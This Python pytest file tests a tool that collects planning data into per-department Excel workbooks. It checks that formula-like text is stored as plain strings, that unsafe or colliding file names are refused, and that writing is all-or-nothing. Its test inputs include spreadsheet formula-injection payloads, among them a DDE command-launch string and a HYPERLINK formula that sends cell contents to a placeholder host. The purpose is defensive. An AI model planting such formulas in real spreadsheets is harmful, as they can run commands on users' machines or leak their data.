"""Issue 25, parts 2 and 4: what collect writes stays data, and import reads only what the sheet shows."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from .test_sheets import BOOKS, PROJECTS, invoke, write_plan

FORMULA_LIKE = ['=HYPERLINK("http://x?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "#N/A", "_x000D_"]


def _project_with(name: str, department: str = "가과", project: str = "1-1-1") -> dict[str, str]:
    text = PROJECTS[project].replace("{ko: 방문 수, en: Visits}", "{ko: " + _quoted(name) + ", en: Visits}")
    return {**PROJECTS, project: text.replace("{ko: 가과, en: Division A}", "{ko: " + _quoted(department) + ", en: A}")}


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _collect(tmp_path: Path, projects: dict[str, str], *more: str):  # type: ignore[no-untyped-def]
    write_plan(tmp_path, projects)
    return invoke("collect", "sheets", "2024", *more)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_plan_text_that_looks_like_a_formula_is_written_as_text_and_read_back_exactly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with(text), "--deadline", text)
    assert result.exit_code == 0, result.output
    for data_only in (False, True):
        book = load_workbook(BOOKS / "가과.xlsx", data_only=data_only)
        name, deadline = book["성과지표"]["F3"], book["안내"]["B4"]
        assert (name.value.replace("_x005F_", "_"), name.data_type) == (text, "s")  # the sheet's escaped "_"
        assert (deadline.value.replace("_x005F_", "_"), deadline.data_type) == (text, "s")
    raw = (BOOKS / "가과.xlsx").read_bytes()
    assert b"<f>" not in raw  # no formula anywhere in the file


@pytest.mark.parametrize(
    ("first", "second", "message"),
    [
        ("안전:지원과", "안전/지원과", "would share one workbook (안전_지원과.xlsx"),
        ("Team", "team", "would share one workbook"),
        ("index", "나과", "would share one workbook (index.xlsx"),
    ],
)
def test_departments_sharing_a_file_name_are_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: str, second: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    projects = _project_with("방문 수", first)
    projects["1-1-2"] = projects["1-1-2"].replace("{ko: 나과, en: Division B}", "{ko: " + _quoted(second) + ", en: B}")
    result = _collect(tmp_path, projects)
    assert result.exit_code != 0 and message in result.output, result.output
    assert not Path("workbooks").exists()


@pytest.mark.parametrize(
    ("department", "message"),
    [("...", "gives no visible file name"), ("가" * 80, "too long for a file name"), ("NUL", "a device name")],
)
def test_a_hidden_long_or_device_file_name_is_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, department: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with("방문 수", department))
    assert result.exit_code != 0 and message in result.output, result.output
    assert "Traceback" not in result.output and not Path("workbooks").exists()


@pytest.mark.parametrize("out", ["plans/sheets/books", "results", "plans"])
def test_out_inside_the_data_folders_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out: str) -> None:
    monkeypatch.chdir(tmp_path)
    write_plan(tmp_path)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    result = invoke("collect", "sheets", "2024", "--out", out)
    assert result.exit_code != 0 and "workbooks are not written inside a data folder" in result.output
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before


def test_collect_writes_all_workbooks_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "books").mkdir()
    (tmp_path / "books" / "나과.xlsx").write_bytes(b"filled in")  # the second workbook is taken
    result = _collect(tmp_path, PROJECTS, "--out", "books")
    assert result.exit_code != 0 and "exists, so nothing was written" in result.output
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["나과.xlsx"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left behind
    (tmp_path / "books" / "나과.xlsx").unlink()
    assert invoke("collect", "sheets", "2024", "--out", "books").exit_code == 0
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["index.xlsx", "가과.xlsx", "나과.xlsx"]
